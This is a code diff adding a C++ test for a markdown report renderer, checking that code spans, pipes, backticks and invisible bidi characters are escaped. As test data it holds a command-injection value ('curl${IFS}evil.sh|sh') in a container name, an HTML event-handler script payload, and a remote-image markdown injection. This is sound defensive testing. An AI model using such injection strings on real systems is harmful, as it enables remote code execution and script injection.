@@ -160,3 +160,27 @@ TEST_CASE("markdown: rule prose keeps balanced code spans", "[report]") {
   CHECK(has_line(md, "- Set `num_workers=2` and check `dmesg -T`"));
   CHECK(has_line(md, "- unbalanced \\` tick\\_here"));
 }
+
+// Issue 36 (redteam findings 5 and 31): code spans outside a table keep a `|` as it is (GFM
+// reads `\|` only in a table cell), two backticks of a name are no empty code span, and
+// invisible format characters are shown.
+TEST_CASE("markdown: code spans outside tables, backtick pairs in names, bidi controls", "[report]") {
+  auto v = test::cuda_oom_foreign();
+  v.culprit->name = "py|thon";
+  v.culprit->container = "vllm;curl${IFS}evil.sh|sh;#";
+  v.culprit->why = "it runs in container a``![i](https://x/i.png)``b";
+  v.advice = {"Stop it (`kill 48211` on spark-b)", "run `a|b` and `c`"};
+  const std::string md = render(v, Format::markdown);
+  require_tables_well_formed(md);
+  CHECK(has_line(md, "- **Name:** `py|thon`"));
+  CHECK(has_line(md, "- **Container:** `vllm;curl${IFS}evil.sh|sh;#`"));
+  CHECK(contains(md, "container a\\`\\`!\\[i\\](https://x/i.png)\\`\\`b"));
+  CHECK(has_line(md, "- run `a|b` and `c`"));
+  CHECK(has_line(md, "| Culprit | pid 48211 `py\\|thon` on spark-b (foreign) |"));  // in a table: escaped
+  v.culprit->name = "E\xe2\x80\xae<b>x</b>a\xe2\x80\x8b";
+  const std::string bidi = render(v, Format::markdown);
+  CHECK(contains(bidi, "`E<U+202E><b>x</b>a<U+200B>`"));
+  CHECK_FALSE(contains(bidi, "\xe2\x80\xae"));
+  CHECK(markdown_inline("a|b<img src=x onerror=alert(1)>![i](https://x)") ==
+        "a\\|b\\<img src=x onerror=alert(1)\\>!\\[i\\](https://x)");
+}
